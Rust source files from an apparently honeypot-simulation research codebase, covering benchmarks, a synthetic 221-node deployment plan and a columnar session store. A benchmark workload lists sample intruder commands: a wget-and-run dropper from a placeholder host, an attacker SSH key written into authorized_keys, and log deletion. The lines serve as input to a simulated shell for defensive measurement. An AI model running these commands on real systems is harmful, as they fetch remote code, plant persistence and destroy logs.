            let mut sh = ShellSession::new(SystemProfile::default(), Box::new(NullFetcher));
            sh.execute(script);
            black_box(sh.take_events().file_events.len())
        })
    });
    g.bench_function("reused_session", |b| {
        let mut sh = ShellSession::new(SystemProfile::default(), Box::new(NullFetcher));
        b.iter(|| {
            sh.execute(script);
            black_box(sh.take_events().file_events.len())
        })
    });
    g.finish();
}

fn bench_script_cache(c: &mut Criterion) {
    use hf_sim::{SimConfig, Simulation};
    use hf_simclock::StudyWindow;
    let mut g = c.benchmark_group("ablation_script_cache");
    g.sample_size(10);
    let cfg = |fast: bool| SimConfig {
        seed: 0xab1a,
        scale: hf_agents::Scale::of(0.001),
        window: StudyWindow::first_days(30),
        use_script_cache: fast,
        threads: 1,
    };
    g.bench_function("sim_30d_full_shell", |b| {
        b.iter(|| black_box(Simulation::run(cfg(false)).dataset.len()))
    });
    g.bench_function("sim_30d_script_cache", |b| {
        b.iter(|| black_box(Simulation::run(cfg(true)).dataset.len()))
    });
    g.finish();
}

criterion_group!(
    benches,
    bench_store,
    bench_interning,
    bench_freshness,
    bench_shell_reuse,
    bench_script_cache
);
criterion_main!(benches);
