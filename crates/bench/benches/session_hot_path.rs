//! Single-core session hot path microbenches.
//!
//! Isolates the layers the per-session pipeline is built from, so a
//! regression shows up in the layer that caused it rather than only in the
//! end-to-end day loop:
//!
//! * `lex_only` — the arena [`LineBuf`] parser over a fixed intruder
//!   workload, against the preserved reference lexer for scale.
//! * `interp_only` — a pooled [`ShellSession`] executing the workload
//!   through the quiet (render-free) path, arena scratch reused per iter.
//! * `full_session` — the complete honeypot driver: accept, authenticate,
//!   run a dropper script, close, materialize the record.
//! * `batch_hash` — artifact digesting, one call per body vs the batched
//!   [`Sha256::digest_many`] the prepared pipeline uses.
//!
//! Writes the recorded means to `BENCH_session_hot_path.json` at the repo
//! root; under `--test` a placeholder goes to a scratch path instead and
//! is parse-back validated.
//!
//! ```sh
//! cargo bench -p hf-bench --bench session_hot_path
//! ```

use criterion::{black_box, Criterion, Throughput};
use hf_hash::Sha256;
use hf_honeypot::{HoneypotConfig, SessionDriver};
use hf_proto::creds::Credentials;
use hf_proto::Protocol;
use hf_shell::lexer::reference;
use hf_shell::{LineBuf, NullFetcher, ShellSession, SyntheticFetcher, SystemProfile};
use hf_simclock::SimInstant;

/// A representative intruder session: recon, then a dropper chain.
const WORKLOAD: &[&str] = &[
    "uname -a; id",
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m | grep Mem | awk '{print $2}'",
    "cd /tmp || cd /var/run || cd /mnt",
    "wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
    // Truncating write, not `>>`: the interp bench reuses one session for
    // thousands of iterations, and an append target would grow without
    // bound and measure file copying instead of interpretation.
    "echo \"ssh-rsa AAAAB3Nza attacker\" > .ssh/authorized_keys",
    "rm -rf /var/log/* 2>&1",
];

fn bench_lex_only(c: &mut Criterion) {
    let mut g = c.benchmark_group("lex_only");
    g.throughput(Throughput::Elements(WORKLOAD.len() as u64));
    g.bench_function("linebuf_reused", |b| {
        let mut buf = LineBuf::new();
        b.iter(|| {
            let mut words = 0usize;
            for line in WORKLOAD {
                buf.parse(line);
                for stmt in buf.statements() {
                    for cmd in stmt.commands() {
                        words += cmd.argv().len();
                    }
                }
            }
            black_box(words)
        })
    });
    g.bench_function("reference_alloc", |b| {
        b.iter(|| {
            let mut words = 0usize;
            for line in WORKLOAD {
                for stmt in reference::split_statements(line) {
                    for cmd in &stmt.pipeline {
                        words += cmd.argv.len();
                    }
                }
            }
            black_box(words)
        })
    });
    g.finish();
}

fn bench_interp_only(c: &mut Criterion) {
    let mut g = c.benchmark_group("interp_only");
    g.throughput(Throughput::Elements(WORKLOAD.len() as u64));
    g.bench_function("quiet_reused_session", |b| {
        let mut sh = ShellSession::new(SystemProfile::default(), Box::new(NullFetcher));
        b.iter(|| {
            let mut ran = 0usize;
            for line in WORKLOAD {
                ran += sh.execute_quiet(line).commands_run;
            }
            black_box((ran, sh.take_events().commands.len()))
        })
    });
    g.bench_function("parsed_quiet_reused_session", |b| {
        // The prepared-script path: parse once, execute the parsed form
        // every iteration (what `PreparedScripts` does per campaign).
        let bufs: Vec<LineBuf> = WORKLOAD
            .iter()
            .map(|line| {
                let mut buf = LineBuf::new();
                buf.parse(line);
                buf
            })
            .collect();
        let mut sh = ShellSession::new(SystemProfile::default(), Box::new(NullFetcher));
        b.iter(|| {
            let mut ran = 0usize;
            for buf in &bufs {
                ran += sh.execute_parsed_quiet(buf).commands_run;
            }
            black_box((ran, sh.take_events().commands.len()))
        })
    });
    g.finish();
}

fn bench_full_session(c: &mut Criterion) {
    let mut g = c.benchmark_group("full_session");
    g.bench_function("dropper_session", |b| {
        b.iter(|| {
            let mut d = SessionDriver::accept(
                HoneypotConfig::default(),
                0,
                Protocol::Ssh,
                hf_geo::Ip4::new(203, 0, 113, 1),
                4000,
                SimInstant::EPOCH,
                Box::new(SyntheticFetcher),
            );
            d.offer_credentials(Credentials::new("root", "1234"), 1);
            for line in WORKLOAD {
                d.run_command_quiet(line, 2);
            }
            d.client_close();
            black_box(d.into_record())
        })
    });
    g.finish();
}

fn bench_batch_hash(c: &mut Criterion) {
    let mut g = c.benchmark_group("batch_hash");
    let bodies: Vec<Vec<u8>> = (0..64u8)
        .map(|i| {
            let mut body = b"\x7fELF<synthetic:".to_vec();
            body.extend(std::iter::repeat_n(i, 600));
            body
        })
        .collect();
    // Bytes, not elements: the emitted JSON then carries a derived
    // `bytes_per_sec` for the digest paths, comparable across body sizes.
    let total: u64 = bodies.iter().map(|b| b.len() as u64).sum();
    g.throughput(Throughput::Bytes(total));
    g.bench_function("digest_each_64x600B", |b| {
        b.iter(|| {
            let mut acc = 0u8;
            for body in &bodies {
                acc ^= Sha256::digest(body).0[0];
            }
            black_box(acc)
        })
    });
    g.bench_function("digest_many_64x600B", |b| {
        let mut out = Vec::with_capacity(bodies.len());
        b.iter(|| {
            out.clear();
            Sha256::digest_many(bodies.iter().map(Vec::as_slice), &mut out);
            black_box(out.len())
        })
    });
    g.finish();
}

fn main() {
    let mut c = Criterion::default();
    bench_lex_only(&mut c);
    bench_interp_only(&mut c);
    bench_full_session(&mut c);
    bench_batch_hash(&mut c);
    hf_bench::emit_bench_json(
        &c,
        "BENCH_session_hot_path.json",
        "session_hot_path",
        &[
            ("workload_lines", format!("{}", WORKLOAD.len())),
            ("hash_bodies", "64".to_string()),
            ("hash_body_bytes", "600".to_string()),
        ],
    );
}
