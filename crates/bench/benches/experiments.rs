//! One benchmark target per table and figure of the paper.
//!
//! Each bench measures the cost of regenerating that experiment's rows or
//! series from the precomputed aggregates (T1–T6, F1–F24); before the
//! measurements start, the harness prints the reproduced headline rows so a
//! `cargo bench` run doubles as a report of what the reproduction produces.

use criterion::{criterion_group, criterion_main, Criterion};
use hf_bench::fixture;
use hf_core::report::{figures, tables, HashSortKey};
use hf_core::Claims;
use std::hint::black_box;

fn print_reproduced_rows() {
    let f = fixture();
    println!(
        "\n===== reproduced Table 1 =====\n{}",
        tables::table1(&f.agg)
    );
    println!(
        "===== reproduced Table 2 =====\n{}",
        tables::table2(&f.dataset, &f.agg)
    );
    println!(
        "===== reproduced Table 4 (top 10 by sessions) =====\n{}",
        tables::hash_table(&f.dataset, &f.agg, &f.tags, HashSortKey::Sessions, 10)
    );
    println!("===== reproduced Fig. 2 =====\n{}", figures::fig2(&f.agg));
    println!("===== headline claims =====\n{}", Claims::compute(&f.agg));
}

fn bench_tables(c: &mut Criterion) {
    print_reproduced_rows();
    let f = fixture();
    c.bench_function("bench_t1_classification", |b| {
        b.iter(|| black_box(tables::table1(&f.agg)))
    });
    c.bench_function("bench_t2_passwords", |b| {
        b.iter(|| black_box(tables::table2(&f.dataset, &f.agg)))
    });
    c.bench_function("bench_t3_commands", |b| {
        b.iter(|| black_box(tables::table3(&f.dataset, &f.agg)))
    });
    c.bench_function("bench_t4_hashes_by_sessions", |b| {
        b.iter(|| {
            black_box(tables::hash_table(
                &f.dataset,
                &f.agg,
                &f.tags,
                HashSortKey::Sessions,
                20,
            ))
        })
    });
    c.bench_function("bench_t5_hashes_by_clients", |b| {
        b.iter(|| {
            black_box(tables::hash_table(
                &f.dataset,
                &f.agg,
                &f.tags,
                HashSortKey::Clients,
                20,
            ))
        })
    });
    c.bench_function("bench_t6_hashes_by_days", |b| {
        b.iter(|| {
            black_box(tables::hash_table(
                &f.dataset,
                &f.agg,
                &f.tags,
                HashSortKey::Days,
                20,
            ))
        })
    });
}

fn bench_volume_figures(c: &mut Criterion) {
    let f = fixture();
    c.bench_function("bench_f1_deployment", |b| {
        b.iter(|| black_box(figures::fig1(&f.dataset)))
    });
    c.bench_function("bench_f2_sessions_per_honeypot", |b| {
        b.iter(|| black_box(figures::fig2(&f.agg)))
    });
    c.bench_function("bench_f3_top5_bands", |b| {
        b.iter(|| black_box(figures::fig_bands(&f.agg, true)))
    });
    c.bench_function("bench_f4_all_bands", |b| {
        b.iter(|| black_box(figures::fig_bands(&f.agg, false)))
    });
    c.bench_function("bench_f5_flow", |b| {
        b.iter(|| black_box(figures::fig5(&f.agg)))
    });
    c.bench_function("bench_f6_category_timeseries", |b| {
        b.iter(|| black_box(figures::fig6(&f.agg)))
    });
    c.bench_function("bench_f7_duration_ecdf", |b| {
        b.iter(|| black_box(figures::fig7(&f.agg)))
    });
    c.bench_function("bench_f8_category_bands", |b| {
        b.iter(|| black_box(figures::fig_cat_bands(&f.agg, false)))
    });
    c.bench_function("bench_f9_top5_category_bands", |b| {
        b.iter(|| black_box(figures::fig_cat_bands(&f.agg, true)))
    });
}

fn bench_client_figures(c: &mut Criterion) {
    let f = fixture();
    c.bench_function("bench_f10_client_countries", |b| {
        b.iter(|| black_box(figures::fig10(&f.agg)))
    });
    c.bench_function("bench_f11_daily_ips", |b| {
        b.iter(|| black_box(figures::fig11(&f.agg)))
    });
    c.bench_function("bench_f12_spread_ecdf", |b| {
        b.iter(|| black_box(figures::fig12(&f.agg)))
    });
    c.bench_function("bench_f13_days_ecdf", |b| {
        b.iter(|| black_box(figures::fig13(&f.agg)))
    });
    c.bench_function("bench_f14_clients_per_honeypot", |b| {
        b.iter(|| black_box(figures::fig14(&f.agg)))
    });
    c.bench_function("bench_f15_multirole", |b| {
        b.iter(|| black_box(figures::fig15(&f.agg)))
    });
    c.bench_function("bench_f16_regional", |b| {
        b.iter(|| black_box(figures::fig16(&f.agg)))
    });
    // Appendix figures share the builders with Figs. 10/16; bench under
    // their own ids so every paper figure has a target.
    c.bench_function("bench_f23_countries_by_category", |b| {
        b.iter(|| black_box(figures::fig10(&f.agg).per_category))
    });
    c.bench_function("bench_f24_regional_by_category", |b| {
        b.iter(|| black_box(figures::fig16(&f.agg).daily))
    });
}

fn bench_hash_figures(c: &mut Criterion) {
    let f = fixture();
    c.bench_function("bench_f17_freshness", |b| {
        b.iter(|| black_box(figures::fig17(&f.agg)))
    });
    c.bench_function("bench_f18_hashes_per_honeypot", |b| {
        b.iter(|| black_box(figures::fig18(&f.agg)))
    });
    c.bench_function("bench_f19_hashes_vs_sessions", |b| {
        // Fig. 19 is Fig. 18 with the sessions overlay; same builder.
        b.iter(|| black_box(figures::fig18(&f.agg).sessions))
    });
    c.bench_function("bench_f20_clients_per_hash", |b| {
        b.iter(|| black_box(figures::fig20(&f.agg)))
    });
    c.bench_function("bench_f21_hashes_per_client", |b| {
        b.iter(|| black_box(figures::fig21(&f.agg)))
    });
    c.bench_function("bench_f22_campaign_length", |b| {
        b.iter(|| black_box(figures::fig22(&f.dataset, &f.agg, &f.tags)))
    });
}

fn bench_pipeline(c: &mut Criterion) {
    let f = fixture();
    // The full aggregation pass itself (the analysis pipeline's hot loop).
    let mut g = c.benchmark_group("pipeline");
    g.sample_size(10);
    g.bench_function("aggregates_full_pass", |b| {
        b.iter(|| black_box(hf_core::aggregates::Aggregates::compute(&f.dataset)))
    });
    g.bench_function("claims", |b| b.iter(|| black_box(Claims::compute(&f.agg))));
    g.finish();
}

criterion_group!(
    benches,
    bench_tables,
    bench_volume_figures,
    bench_client_figures,
    bench_hash_figures,
    bench_pipeline
);
criterion_main!(benches);
