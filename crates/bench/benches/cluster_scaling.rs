//! Clustering-pipeline benchmarks: feature extraction scaling and the
//! k-means sweep.
//!
//! Simulates one fixed 20-day window (same workload as
//! `analysis_scaling`), then measures per-client feature extraction at
//! 1/2/4/8 worker threads — output is bit-identical across thread counts
//! (`hf_cluster` module docs), so the numbers compare like for like — and
//! the serial normalize + seeded k-means sweep on the extracted features.
//! Writes the recorded means to `BENCH_cluster.json` at the repo root;
//! under `--test` a placeholder goes to a scratch path instead and is
//! parse-back validated.
//!
//! ```sh
//! cargo bench -p hf-bench --bench cluster_scaling           # measure
//! cargo bench -p hf-bench --bench cluster_scaling -- --test # smoke
//! ```

use criterion::{black_box, Criterion};
use hf_cluster::{cluster, extract_threaded, KMeansConfig};
use hf_sim::{SimConfig, Simulation};
use hf_simclock::StudyWindow;

const SEED: u64 = 0x5ca1e;
const SCALE: f64 = 0.001;
const DAYS: u32 = 20;

fn bench_cluster_scaling(c: &mut Criterion) {
    let out = Simulation::run(SimConfig {
        seed: SEED,
        scale: hf_agents::Scale::of(SCALE),
        window: StudyWindow::first_days(DAYS),
        use_script_cache: false,
        threads: 1,
    });
    let features = extract_threaded(&out.dataset, 1);
    eprintln!(
        "[hf-bench] cluster fixture: {} sessions / {} clients over {DAYS} days",
        out.dataset.len(),
        features.len()
    );

    let mut g = c.benchmark_group("cluster_scaling");
    g.sample_size(10);
    for threads in [1usize, 2, 4, 8] {
        g.bench_function(format!("extract_20d_t{threads}"), |b| {
            b.iter(|| black_box(extract_threaded(&out.dataset, threads)))
        });
    }
    let matrix = features.matrix();
    g.bench_function("normalize_20d", |b| b.iter(|| black_box(features.matrix())));
    g.bench_function("kmeans_sweep_20d", |b| {
        b.iter(|| black_box(cluster(&matrix, &KMeansConfig::default())))
    });
    g.finish();
}

fn main() {
    let mut c = Criterion::default();
    bench_cluster_scaling(&mut c);
    // Always emit: in `--test` smoke mode this writes a placeholder to a
    // scratch path and parse-back validates it, so writer regressions
    // fail the smoke run rather than the next real benchmark.
    hf_bench::emit_bench_json(
        &c,
        "BENCH_cluster.json",
        "cluster_scaling",
        &[
            ("seed", format!("{SEED}")),
            ("scale", format!("{SCALE}")),
            ("days", format!("{DAYS}")),
        ],
    );
}
