//! The honeyfarm deployment plan.
//!
//! Section 4: "221 identically configured honeypots in 55 countries and 65
//! Autonomous Systems (ASes) … with a focus on residential networks", no
//! deployment in China (Section 7.6 caveat), and some countries (e.g. the US
//! and Singapore) hosting multiple honeypots (Fig. 1). The exact hosting
//! networks are anonymized in the paper, so the per-country node counts here
//! are a synthetic plan with the same cardinalities: 221 nodes, exactly 55
//! countries, exactly 65 ASes, no CN.

use hf_geo::{country, Asn, CountryId, Ip4, NetworkClass};
use hf_shell::SystemProfile;
use serde::{Deserialize, Serialize};

/// One deployed honeypot.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct HoneypotNode {
    /// Dense index (0..221) used everywhere as the honeypot id.
    pub id: u16,
    /// Public address of the node (synthetic benchmarking range).
    pub ip: Ip4,
    /// Country the node is hosted in.
    pub country: CountryId,
    /// Hosting AS.
    pub asn: Asn,
    /// Network class of the hosting AS.
    pub class: NetworkClass,
}

impl HoneypotNode {
    /// Machine profile the node's shell presents.
    pub fn profile(&self) -> SystemProfile {
        SystemProfile::for_node(self.id as u32)
    }
}

/// Per-country node counts: (ISO code, nodes, extra ASes beyond the first).
/// 55 entries summing to 221 nodes; extra-AS column sums to 10 so the farm
/// spans exactly 65 ASes.
const PLAN: &[(&str, u16, u16)] = &[
    ("US", 26, 4),
    ("SG", 12, 2),
    ("DE", 10, 1),
    ("GB", 8, 1),
    ("NL", 8, 0),
    ("FR", 8, 0),
    ("JP", 8, 1),
    ("BR", 7, 1),
    ("IN", 7, 0),
    ("AU", 6, 0),
    ("CA", 6, 0),
    ("IT", 5, 0),
    ("ES", 5, 0),
    ("PL", 5, 0),
    ("SE", 4, 0),
    ("RU", 4, 0),
    ("ZA", 4, 0),
    ("KR", 4, 0),
    ("MX", 4, 0),
    ("AR", 4, 0),
    ("TR", 3, 0),
    ("ID", 3, 0),
    ("TH", 3, 0),
    ("VN", 3, 0),
    ("MY", 3, 0),
    ("PH", 3, 0),
    ("CH", 3, 0),
    ("AT", 3, 0),
    ("BE", 3, 0),
    ("CZ", 3, 0),
    ("RO", 3, 0),
    ("BG", 2, 0),
    ("GR", 2, 0),
    ("PT", 2, 0),
    ("HU", 2, 0),
    ("FI", 2, 0),
    ("NO", 2, 0),
    ("DK", 2, 0),
    ("IE", 2, 0),
    ("UA", 2, 0),
    ("CL", 2, 0),
    ("CO", 2, 0),
    ("PE", 2, 0),
    ("EG", 2, 0),
    ("KE", 2, 0),
    ("NG", 2, 0),
    ("MA", 2, 0),
    ("HK", 2, 0),
    ("TW", 2, 0),
    ("NZ", 2, 0),
    ("IL", 1, 0),
    ("AE", 1, 0),
    ("SA", 1, 0),
    ("PK", 1, 0),
    ("LT", 1, 0),
];

/// First farm-side ASN (16-bit private range, distinct from the client-side
/// synthetic 32-bit range in `hf-geo`).
const FIRST_FARM_ASN: u32 = 64_512;

/// Hosts assigned per /24 block (`.1` – `.250`), leaving the network,
/// broadcast, and a small tail of each block unused.
const HOSTS_PER_BLOCK: u32 = 250;

/// Derive a node's public address inside 198.18.0.0/15, the RFC 2544
/// benchmarking range.
///
/// The range spans 512 /24 blocks (198.18.0.0/24 … 198.19.255.0/24); at
/// [`HOSTS_PER_BLOCK`] hosts per block it addresses 128 000 nodes, covering
/// the full `u16` id space. Every octet is derived with checked arithmetic —
/// the naive `(id / 250) as u8` truncates for ids ≥ 63 750 and silently
/// hands the same address to multiple nodes.
pub fn node_ip(id: u16) -> Ip4 {
    let block = id as u32 / HOSTS_PER_BLOCK;
    let host = (id as u32 % HOSTS_PER_BLOCK + 1) as u8;
    let (hi, lo) = (block / 256, block % 256);
    assert!(
        hi < 2,
        "node id {id} falls outside the 198.18.0.0/15 deployable range"
    );
    Ip4::new(198, 18 + hi as u8, lo as u8, host)
}

/// The full deployment.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FarmPlan {
    /// All nodes, indexed by id.
    pub nodes: Vec<HoneypotNode>,
}

impl FarmPlan {
    /// The paper's deployment: 221 nodes / 55 countries / 65 ASes.
    pub fn paper() -> Self {
        let mut nodes = Vec::with_capacity(221);
        let mut next_asn = FIRST_FARM_ASN;
        let mut id: u16 = 0;
        for &(code, n_nodes, extra_ases) in PLAN {
            let ctry = country::by_code(code)
                .unwrap_or_else(|| panic!("deployment country {code} missing from catalog"));
            let n_ases = 1 + extra_ases;
            let ases: Vec<Asn> = (0..n_ases)
                .map(|_| {
                    let a = Asn(next_asn);
                    next_asn += 1;
                    a
                })
                .collect();
            for k in 0..n_nodes {
                let asn = ases[(k % n_ases) as usize];
                // Residential focus: ~4 of 5 nodes in eyeball space.
                let class = if id % 5 == 4 {
                    NetworkClass::Datacenter
                } else {
                    NetworkClass::Residential
                };
                nodes.push(HoneypotNode {
                    id,
                    ip: node_ip(id),
                    country: ctry,
                    asn,
                    class,
                });
                id += 1;
            }
        }
        FarmPlan { nodes }
    }

    /// Number of honeypots.
    pub fn len(&self) -> usize {
        self.nodes.len()
    }

    /// Is the plan empty?
    pub fn is_empty(&self) -> bool {
        self.nodes.is_empty()
    }

    /// Node by id.
    pub fn node(&self, id: u16) -> &HoneypotNode {
        &self.nodes[id as usize]
    }

    /// Distinct countries in the plan.
    pub fn countries(&self) -> Vec<CountryId> {
        let mut v: Vec<CountryId> = self.nodes.iter().map(|n| n.country).collect();
        v.sort();
        v.dedup();
        v
    }

    /// Distinct ASes in the plan.
    pub fn ases(&self) -> Vec<Asn> {
        let mut v: Vec<Asn> = self.nodes.iter().map(|n| n.asn).collect();
        v.sort();
        v.dedup();
        v
    }

    /// Per-country node counts sorted descending (Figure 1's data).
    pub fn nodes_per_country(&self) -> Vec<(CountryId, usize)> {
        let mut counts = std::collections::BTreeMap::new();
        for n in &self.nodes {
            *counts.entry(n.country).or_insert(0usize) += 1;
        }
        let mut v: Vec<(CountryId, usize)> = counts.into_iter().collect();
        v.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
        v
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paper_cardinalities() {
        let plan = FarmPlan::paper();
        assert_eq!(plan.len(), 221, "221 honeypots");
        assert_eq!(plan.countries().len(), 55, "55 countries");
        assert_eq!(plan.ases().len(), 65, "65 ASes");
    }

    #[test]
    fn no_deployment_in_china() {
        let plan = FarmPlan::paper();
        let cn = country::by_code("CN").unwrap();
        assert!(plan.nodes.iter().all(|n| n.country != cn));
    }

    #[test]
    fn us_and_sg_host_multiple() {
        let plan = FarmPlan::paper();
        let per = plan.nodes_per_country();
        let us = country::by_code("US").unwrap();
        let sg = country::by_code("SG").unwrap();
        let us_n = per.iter().find(|(c, _)| *c == us).unwrap().1;
        let sg_n = per.iter().find(|(c, _)| *c == sg).unwrap().1;
        assert!(us_n > 10);
        assert!(sg_n > 5);
        // Most countries host few nodes.
        assert!(per.iter().filter(|(_, n)| *n <= 2).count() >= 24);
    }

    #[test]
    fn node_ips_unique() {
        let plan = FarmPlan::paper();
        let mut ips: Vec<Ip4> = plan.nodes.iter().map(|n| n.ip).collect();
        ips.sort();
        let before = ips.len();
        ips.dedup();
        assert_eq!(ips.len(), before);
    }

    #[test]
    fn node_ips_unique_over_full_deployable_range() {
        // Regression: the old `(id / 250) as u8` derivation truncated for
        // ids ≥ 63 750, colliding e.g. id 64 000 with id 0.
        let mut seen = std::collections::BTreeSet::new();
        for id in 0..=u16::MAX {
            let ip = node_ip(id);
            assert!(seen.insert(ip), "ip {ip:?} reused at node id {id}");
            // Every address stays inside 198.18.0.0/15 with a host octet
            // in .1 – .250.
            let [a, b, c, d] = ip.octets();
            assert_eq!(a, 198, "id {id}");
            assert!(b == 18 || b == 19, "id {id} escaped /15: {a}.{b}.{c}.{d}");
            assert!((1..=250).contains(&d), "id {id} host octet {d}");
        }
    }

    #[test]
    fn residential_focus() {
        let plan = FarmPlan::paper();
        let res = plan
            .nodes
            .iter()
            .filter(|n| n.class == NetworkClass::Residential)
            .count();
        assert!(res * 10 >= plan.len() * 7, "≥70% residential, got {res}");
    }

    #[test]
    fn every_as_has_a_node_and_one_country() {
        let plan = FarmPlan::paper();
        for asn in plan.ases() {
            let countries: std::collections::BTreeSet<_> = plan
                .nodes
                .iter()
                .filter(|n| n.asn == asn)
                .map(|n| n.country)
                .collect();
            assert_eq!(countries.len(), 1, "AS {asn} must be single-homed");
        }
    }

    #[test]
    fn profiles_deterministic() {
        let plan = FarmPlan::paper();
        assert_eq!(plan.node(7).profile(), plan.node(7).profile());
    }
}
