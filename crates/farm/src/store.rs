//! The columnar session store.
//!
//! One fixed-size [`Row`] per session; every variable-length attribute
//! (credentials, command lists, URI lists, hash lists) lives in shared
//! interning pools. A 4-million-session store (the default 1:100-scale run)
//! fits comfortably in memory, and scans are cache-friendly — DESIGN.md's
//! "columnar vs row-of-structs" ablation is benchmarked in `hf-bench`.

use hf_geo::{Asn, CountryId, Ip4};
use hf_hash::Digest;
use hf_honeypot::{EndReason, SessionRecord};
use hf_proto::Protocol;
use hf_simclock::SimInstant;

use crate::intern::{DigestPool, ListPool, StringPool, NONE_ID};

/// Compact per-session row. Fixed size: exactly 48 bytes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Row {
    /// Session start, seconds since the sim epoch (fits u32 for 486 days).
    pub start_secs: u32,
    /// Duration in seconds.
    pub duration_secs: u32,
    /// Honeypot id.
    pub honeypot: u16,
    /// Client source port.
    pub client_port: u16,
    /// Client IPv4.
    pub client_ip: u32,
    /// Client AS number (u32::MAX when unknown).
    pub client_asn: u32,
    /// Client country id (u16::MAX when unknown).
    pub client_country: u16,
    /// Protocol (0 = SSH, 1 = Telnet).
    pub protocol: u8,
    /// End reason (0 client, 1 timeout, 2 auth limit).
    pub end_reason: u8,
    /// Interned SSH client version (NONE_ID when absent).
    pub ssh_version_id: u32,
    /// Interned list of login attempts (cred_id << 1 | accepted).
    pub login_list_id: u32,
    /// Interned list of command ids (cmd_id << 1 | known).
    pub cmd_list_id: u32,
    /// Interned list of URI string ids.
    pub uri_list_id: u32,
    /// Interned list of file-hash digest ids.
    pub hash_list_id: u32,
    /// Interned list of download-hash digest ids.
    pub dl_list_id: u32,
}

// The memory math in this module's docs, the hfstore on-disk encoding
// (`snapshot.rs`), and the hf-bench columnar ablation all assume this exact
// size; fail the build if the struct drifts.
const _: () = assert!(std::mem::size_of::<Row>() == 48);

/// The store: rows + pools.
#[derive(Debug, Default, Clone)]
pub struct SessionStore {
    rows: Vec<Row>,
    /// Credentials as "user\0pass".
    pub creds: StringPool,
    /// Command strings.
    pub commands: StringPool,
    /// URI strings.
    pub uris: StringPool,
    /// SSH client version strings.
    pub ssh_versions: StringPool,
    /// File/download content hashes.
    pub digests: DigestPool,
    /// All id-lists.
    pub lists: ListPool,
    /// Buffers reused across [`SessionStore::ingest`] calls; not part of the
    /// logical store state.
    scratch: IngestScratch,
}

/// Reusable ingest buffers. Cloning a store clones whatever is in here, but
/// the contents are cleared before every use, so the copies are inert.
#[derive(Debug, Default, Clone)]
struct IngestScratch {
    ids: Vec<u32>,
    key: String,
}

impl SessionStore {
    /// Empty store.
    pub fn new() -> Self {
        SessionStore {
            rows: Vec::new(),
            creds: StringPool::new(),
            commands: StringPool::new(),
            uris: StringPool::new(),
            ssh_versions: StringPool::new(),
            digests: DigestPool::new(),
            lists: ListPool::new(),
            scratch: IngestScratch::default(),
        }
    }

    /// Rows the eager [`SessionStore::with_capacity`] hint may reserve
    /// upfront: 512 Ki rows = 24 MiB. Estimates above the cap (a scale-1.0
    /// run estimates ~402 M sessions ≈ 19 GB) start here and grow
    /// geometrically through `Vec`'s normal doubling; fold-mode runs that
    /// retire rows every day never grow past their largest single day.
    pub const EAGER_ROW_RESERVE_CAP: usize = 1 << 19;

    /// Pre-allocate row capacity. `n` is a hint: reservations are capped at
    /// [`SessionStore::EAGER_ROW_RESERVE_CAP`] rows so whole-run session
    /// estimates can be passed directly without committing gigabytes before
    /// the first session exists.
    pub fn with_capacity(n: usize) -> Self {
        let mut s = Self::new();
        s.rows.reserve(n.min(Self::EAGER_ROW_RESERVE_CAP));
        s
    }

    /// Reassemble a store from already-validated parts (the hfstore
    /// snapshot loader; see `crate::snapshot`).
    pub(crate) fn from_parts(
        rows: Vec<Row>,
        creds: StringPool,
        commands: StringPool,
        uris: StringPool,
        ssh_versions: StringPool,
        digests: DigestPool,
        lists: ListPool,
    ) -> Self {
        SessionStore {
            rows,
            creds,
            commands,
            uris,
            ssh_versions,
            digests,
            lists,
            scratch: IngestScratch::default(),
        }
    }

    /// Reserve room for `n` additional rows.
    pub fn reserve(&mut self, n: usize) {
        self.rows.reserve(n);
    }

    /// Drop every row, keeping the interning pools (and the row buffer's
    /// capacity) intact. The out-of-core fold path calls this after folding
    /// a completed day into `Aggregates`: interned ids stay stable, so
    /// later days and the final row-free report see the same pool ids a
    /// materialized run would.
    pub fn retire_rows(&mut self) {
        self.rows.clear();
    }

    /// Replace the (empty) row vector of a pools-only shell — used by the
    /// snapshot loader to materialize a store after streaming the rows
    /// section chunk by chunk.
    pub(crate) fn set_rows(&mut self, rows: Vec<Row>) {
        debug_assert!(self.rows.is_empty(), "set_rows on a non-empty store");
        self.rows = rows;
    }

    /// Ingest a finished session record. `geo` is the collector-side
    /// geolocation of the client (country, AS), if resolvable.
    pub fn ingest(&mut self, rec: &SessionRecord, geo: Option<(CountryId, Asn)>) {
        // One id buffer and one key buffer are reused across calls and across
        // the five attribute lists: the per-record `Vec`/`String` churn used
        // to dominate the serial ingest half of the parallel day loop.
        let mut scratch = std::mem::take(&mut self.scratch);

        scratch.ids.clear();
        for l in &rec.logins {
            scratch.key.clear();
            scratch.key.push_str(&l.creds.username);
            scratch.key.push('\0');
            scratch.key.push_str(&l.creds.password);
            scratch
                .ids
                .push((self.creds.intern(&scratch.key) << 1) | l.accepted as u32);
        }
        let login_list_id = self.lists.intern(&scratch.ids);

        scratch.ids.clear();
        for c in &rec.commands {
            scratch
                .ids
                .push((self.commands.intern(&c.input) << 1) | c.known as u32);
        }
        let cmd_list_id = self.lists.intern(&scratch.ids);

        scratch.ids.clear();
        for u in &rec.uris {
            scratch.ids.push(self.uris.intern(u));
        }
        let uri_list_id = self.lists.intern(&scratch.ids);

        scratch.ids.clear();
        for h in &rec.file_hashes {
            scratch.ids.push(self.digests.intern(*h));
        }
        let hash_list_id = self.lists.intern(&scratch.ids);

        scratch.ids.clear();
        for h in &rec.download_hashes {
            scratch.ids.push(self.digests.intern(*h));
        }
        let dl_list_id = self.lists.intern(&scratch.ids);

        self.scratch = scratch;

        let row = Row {
            start_secs: rec.start.0 as u32,
            duration_secs: rec.duration_secs,
            honeypot: rec.honeypot,
            client_port: rec.client_port,
            client_ip: rec.client_ip.0,
            client_asn: geo.map(|(_, a)| a.0).unwrap_or(u32::MAX),
            client_country: geo.map(|(c, _)| c.0).unwrap_or(u16::MAX),
            protocol: match rec.protocol {
                Protocol::Ssh => 0,
                Protocol::Telnet => 1,
            },
            end_reason: match rec.ended_by {
                EndReason::ClientClose => 0,
                EndReason::Timeout => 1,
                EndReason::AuthLimit => 2,
            },
            ssh_version_id: rec
                .ssh_client_version
                .as_deref()
                .map(|v| self.ssh_versions.intern(v))
                .unwrap_or(NONE_ID),
            login_list_id,
